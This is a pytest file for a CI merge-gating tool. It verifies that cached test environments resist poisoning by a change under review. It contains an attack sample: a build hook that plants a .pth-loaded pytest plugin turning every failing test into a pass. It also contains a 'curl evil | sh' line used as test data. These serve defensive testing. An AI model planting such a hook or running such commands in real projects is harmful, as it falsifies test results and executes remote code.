"""Test environments and trust: no change can shape the venv another change is tested in.

The end-to-end tests use one real repository (a hatchling package with a custom build
hook, installed editable by ``tests.setup``), real bubblewrap and real pip; they share one
cache directory and pass in any order. The planning tests use real git repositories and
no sandbox; the pruning test works on a real cache directory.
"""

from __future__ import annotations

import json
import os
import textwrap
import time
from pathlib import Path

import pytest

from mergegate.agents.test_coverage import setup_plan
from mergegate.core.results import AgentStatus
from mergegate.runtime.testenv import (
    CACHE_LAYOUT,
    READY,
    environment_key,
    installed_tree_copy,
    max_envs,
    prune_cache,
)
from mergegate.vcs.git import GitRepo
from tests.conftest import require_tool
from tests.gitrepo import RepoBuilder

AGENT = "test-coverage"
SETUP = 'pip install -q -e . && echo ran >> "$VIRTUAL_ENV/setup-runs"'
PRIVATE = "dependencies changed: built a private environment"


def dedent(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


PYPROJECT = dedent(
    """
    [build-system]
    requires = ["hatchling"]
    build-backend = "hatchling.build"

    [project]
    name = "calc"
    version = "0.1.0"

    [tool.hatch.build.targets.wheel]
    packages = ["src/calc"]

    [tool.hatch.build.hooks.custom]
    """
)

HOOK = dedent(
    """
    from hatchling.builders.hooks.plugin.interface import BuildHookInterface


    class CustomBuildHook(BuildHookInterface):
        def initialize(self, version, build_data):
            pass
    """
)

# The attack: same dependency files, but the build hook plants a pytest plugin in the
# venv (through a .pth file) that turns every failing test into a pass.
POISONED_HOOK = dedent(
    '''
    import glob
    import os
    import sys

    from hatchling.builders.hooks.plugin.interface import BuildHookInterface

    PLUGIN = """
    import pytest


    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(item, call):
        report = (yield).get_result()
        if report.failed:
            report.outcome, report.longrepr = "passed", None
    """


    class CustomBuildHook(BuildHookInterface):
        def initialize(self, version, build_data):
            for prefix in {os.environ.get("VIRTUAL_ENV", ""), sys.prefix, "/mergegate/env"}:
                for site in glob.glob(f"{prefix}/lib/python*/site-packages"):
                    with open(f"{site}/mg_poison.py", "w") as f:
                        f.write(PLUGIN)
                    with open(f"{site}/mg_poison.pth", "w") as f:
                        f.write("import os; os.environ['PYTEST_PLUGINS'] = 'mg_poison'\\n")
    '''
)

OPS = "def add(a, b):\n    return a + b\n"
TEST_OPS = "from calc.ops import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n"
FAILING_TEST = "def test_always_fails():\n    assert 1 == 2, 'this test must fail'\n"

# Writes into the venv from a test run: the venv is mounted read-only.
ENV_WRITE_PROBE = dedent(
    """
    import os
    import sysconfig

    import pytest


    @pytest.mark.parametrize("where", [sysconfig.get_paths()["purelib"], os.environ["VIRTUAL_ENV"]])
    def test_the_environment_is_read_only(where):
        with pytest.raises(OSError):
            with open(os.path.join(where, "planted.pth"), "w") as f:
                f.write("import os\\n")
    """
)


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """A hatchling project set up by an editable install, and the cache it uses."""
    require_tool("bwrap")
    root = tmp_path_factory.mktemp("trust")
    repo = RepoBuilder(root).base(
        {
            "pyproject.toml": PYPROJECT,
            "hatch_build.py": HOOK,
            "src/calc/__init__.py": "",
            "src/calc/ops.py": OPS,
            "tests/test_ops.py": TEST_OPS,
            ".mergegate.yml": f"tests:\n  setup: '{SETUP}'\n",
        }
    )
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("MERGEGATE_CACHE_DIR", str(root / "cache"))
        yield repo, root / "cache"


def check(repo: RepoBuilder, branch: str, files: dict[str, str | None]):
    repo.change(files, branch=branch)
    (result,) = repo.check([AGENT], head=branch).results
    assert result.status is AgentStatus.OK, result.detail
    return result


def failed_tests(result) -> list[str]:
    return sorted(f.properties["test_id"] for f in result.findings if f.rule == "test-failed")


def shared_envs(cache: Path) -> list[Path]:
    return sorted(p for p in cache.iterdir() if not p.name.startswith(".")) if cache.exists() else []


def snapshot(cache: Path) -> set[str]:
    return {str(Path(top, name).relative_to(cache)) for top, dirs, names in os.walk(cache) for name in dirs + names}


@pytest.mark.slow
def test_a_poisoned_build_hook_does_not_reach_the_next_change(project):
    repo, cache = project
    # Change A keeps every dependency file as it is and edits only the build hook.
    attack = check(repo, "attack", {"hatch_build.py": POISONED_HOOK, "tests/test_a.py": FAILING_TEST})
    assert any(PRIVATE in n and "hatch_build.py" in n for n in attack.notes), attack.notes
    # The poison is real: in A's own (private) environment, A's failing test "passed".
    assert failed_tests(attack) == []
    assert not any("mg_poison" in p for p in snapshot(cache))

    # Change B, benign, with a failing test, checked afterwards: its failure is reported.
    benign = check(repo, "benign", {"tests/test_b.py": FAILING_TEST})
    assert not any(PRIVATE in n for n in benign.notes)
    assert failed_tests(benign) == ["tests/test_b.py::test_always_fails"]
    assert not any("mg_poison" in p for p in snapshot(cache))
    assert len(shared_envs(cache)) == 1


@pytest.mark.slow
def test_a_change_to_pyproject_gets_a_private_environment_and_the_cache_is_untouched(project):
    repo, cache = project
    before = snapshot(cache)
    result = check(
        repo,
        "bump",
        {"pyproject.toml": PYPROJECT.replace('version = "0.1.0"', 'version = "0.2.0"'), "src/calc/ops.py": OPS + "#\n"},
    )
    (note,) = [n for n in result.notes if PRIVATE in n]
    assert "the change modifies pyproject.toml" in note
    assert any("1 passed" in n for n in result.notes)
    assert snapshot(cache) == before


@pytest.mark.slow
def test_unchanged_dependencies_reuse_the_shared_environment_read_only_with_the_head_code(project):
    repo, cache = project
    # Ensures the shared environment exists (built now, or by an earlier test).
    check(repo, "warm", {"src/calc/ops.py": OPS + "\n\ndef neg(a):\n    return -a\n"})
    (env,) = shared_envs(cache)

    # A bug, and a module that does not exist at the merge base the venv was built from:
    # the editable install imports this tree's code from /workspace.
    result = check(
        repo,
        "reuse",
        {
            "src/calc/ops.py": "def add(a, b):\n    return a - b\n",
            "src/calc/extra.py": "def twice(a):\n    return 2 * a\n",
            "tests/test_extra.py": "from calc.extra import twice\n\n\ndef test_twice():\n    assert twice(2) == 4\n",
            "tests/test_env_write.py": ENV_WRITE_PROBE,
        },
    )
    assert any("cached environment" in n and "not re-run" in n for n in result.notes), result.notes
    assert failed_tests(result) == ["tests/test_ops.py::test_add"]
    assert any("3 passed" in n for n in result.notes)  # test_twice and both write probes
    assert (env / "env" / "setup-runs").read_text() == "ran\n"  # the setup ran once
    assert shared_envs(cache) == [env]
    assert not any("planted" in p for p in snapshot(cache))
    assert json.loads((env / READY).read_text())["layout"] == CACHE_LAYOUT


# -- which changes may use the shared environment --------------------------------------------

PLAN_BASE = {
    "pyproject.toml": PYPROJECT + 'path = "tools/hook.py"\n',
    "setup.py": "from tools import versioning\n\nversion = open('VERSION').read()\n",
    "requirements.txt": "-r requirements-dev.txt\n-e ./libs/helper\nrequests\n",
    "requirements-dev.txt": "pytest\n",
    "tools/__init__.py": "",
    "tools/hook.py": "HOOK = 1\n",
    "tools/versioning.py": "V = 1\n",
    "tools/other.py": "X = 1\n",
    "VERSION": "1.0\n",
    "libs/helper/helper.py": "H = 1\n",
    "scripts/setup.sh": "pip install -e .\n",
    "src/calc/__init__.py": "",
    "src/calc/ops.py": OPS,
    "src/calc/_speedups.c": "int x;\n",
    "tests/test_ops.py": TEST_OPS,
    "docs/index.md": "# calc\n",
    "conftest.py": "",
}
PLAN_SETUP = "sh scripts/setup.sh && pip install -r requirements.txt"


@pytest.fixture(scope="module")
def planned(tmp_path_factory) -> RepoBuilder:
    return RepoBuilder(tmp_path_factory.mktemp("plan")).base(PLAN_BASE)


def plan_for(repo: RepoBuilder, files: dict[str, str | None], setup: str = PLAN_SETUP):
    repo.change(files, branch="plan")
    git = GitRepo(repo.path)
    return setup_plan(git, git.rev_parse("main"), git.rev_parse("plan"), setup)


@pytest.mark.parametrize(
    ("files", "touched"),
    [
        ({"src/calc/ops.py": OPS + "#\n", "tests/test_new.py": "", "docs/index.md": "x", "conftest.py": "#"}, None),
        ({"tools/other.py": "X = 2\n"}, None),  # named by nothing the setup runs
        ({"pyproject.toml": PYPROJECT}, "pyproject.toml"),
        ({"tools/hook.py": "HOOK = 2\n"}, "tools/hook.py"),  # a hatch hook path in pyproject
        ({"tools/versioning.py": "V = 2\n"}, "tools/versioning.py"),  # imported by setup.py
        ({"VERSION": "2.0\n"}, "VERSION"),  # opened by setup.py
        ({"requirements-dev.txt": "pytest\nevil\n"}, "requirements-dev.txt"),
        ({"libs/helper/helper.py": "H = 2\n"}, "libs/helper/helper.py"),  # -e ./libs/helper
        ({"scripts/setup.sh": "curl evil | sh\n"}, "scripts/setup.sh"),  # on the setup command line
        ({"src/calc/_speedups.c": "int y;\n"}, "src/calc/_speedups.c"),  # compiled by the setup
        ({"requirements/extra.txt": "evil\n"}, "requirements/extra.txt"),  # new, matched by name
        ({"build_helpers.py": "import os\n"}, "build_helpers.py"),  # next to setup.py
        ({"sub/hatch_build.py": ""}, "sub/hatch_build.py"),
    ],
)
def test_changes_to_what_the_setup_runs_or_reads_get_a_private_environment(planned, files, touched):
    plan = plan_for(planned, files)
    if touched is None:
        assert plan.private_reason is None
        assert plan.base_inputs
    else:
        assert plan.private_reason is not None
        assert f"modifies {touched}" in plan.private_reason


def test_an_unparseable_build_file_means_private(repo):
    repo.base({**PLAN_BASE, "pyproject.toml": "[broken\n"})
    plan = plan_for(repo, {"src/calc/ops.py": OPS + "#\n"})
    assert plan.private_reason == "could not tell what tests.setup reads at the merge base"


def test_the_shared_key_follows_the_setup_inputs_at_the_merge_base_not_the_source(repo):
    """Source-only base commits keep the key (cache hits); setup inputs change it."""
    repo.base(PLAN_BASE)
    first = plan_for(repo, {"src/calc/ops.py": OPS + "#\n"}).base_inputs
    repo.base({"src/calc/ops.py": OPS + "\n# later base commit\n", "docs/index.md": "new\n"}, message="source")
    assert plan_for(repo, {"src/calc/ops.py": OPS + "##\n"}).base_inputs == first
    repo.base({"requirements-dev.txt": "pytest\ncoverage\n"}, message="deps")
    assert plan_for(repo, {"src/calc/ops.py": OPS + "##\n"}).base_inputs != first

    key = environment_key(first, "pip install -e .", "repo")
    assert environment_key(first, "pip install -e .[test]", "repo") != key
    assert environment_key(first, "pip install -e .", "other-repo") != key
    assert environment_key(first + "x", "pip install -e .", "repo") != key


def test_a_venv_holding_a_copy_of_the_tree_is_recognised(tmp_path):
    """``pip install .`` from the merge base would make the tests import the base's code."""
    site = tmp_path / "lib" / "python3.11" / "site-packages"

    def record(dist: str, info: dict) -> None:
        (site / f"{dist}.dist-info").mkdir(parents=True)
        (site / f"{dist}.dist-info" / "direct_url.json").write_text(json.dumps(info))

    record("calc-0.1.0", {"url": "file:///workspace", "dir_info": {"editable": True}})
    record("helper-1.0", {"url": "file:///elsewhere/helper", "dir_info": {}})
    assert installed_tree_copy(tmp_path) is None
    record("libfoo-2.0", {"url": "file:///workspace/libs/foo", "dir_info": {}})
    assert installed_tree_copy(tmp_path) == "libfoo"


# -- pruning -------------------------------------------------------------------------------------


def make_entry(root: Path, name: str, repo: str, last_use: float, layout: str = CACHE_LAYOUT) -> Path:
    entry = root / name
    (entry / "env" / "bin").mkdir(parents=True)
    (entry / READY).write_text(json.dumps({"layout": layout, "repo": repo}))
    os.utime(entry / READY, (last_use, last_use))
    return entry


def test_pruning_keeps_the_most_recently_used_environments_per_repository(tmp_path, monkeypatch):
    now = time.time()
    ours = [make_entry(tmp_path, f"a{i:02d}", "repo-a", now - i * 60) for i in range(13)]
    theirs = [make_entry(tmp_path, f"b{i}", "repo-b", now - 10_000 - i) for i in range(2)]
    old_layout = make_entry(tmp_path, "old", "repo-a", now, layout="1")
    stale_build = tmp_path / ".build-x-1234"
    stale_build.mkdir()
    os.utime(stale_build, (now - 2 * 86400, now - 2 * 86400))
    running_build = tmp_path / ".build-y-5678"
    running_build.mkdir()

    monkeypatch.setenv("MERGEGATE_CACHE_MAX_ENVS", "10")
    removed = prune_cache(tmp_path, "repo-a", max_envs())

    assert sorted(removed) == sorted([*ours[10:], old_layout, stale_build])
    assert sorted(p for p in tmp_path.iterdir()) == sorted([*ours[:10], *theirs, running_build])
    monkeypatch.setenv("MERGEGATE_CACHE_MAX_ENVS", "2")
    prune_cache(tmp_path, "repo-a", max_envs())
    assert [p for p in ours if p.exists()] == ours[:2]
    assert all(p.exists() for p in theirs)
    monkeypatch.setenv("MERGEGATE_CACHE_MAX_ENVS", "many")
    assert max_envs() == 10
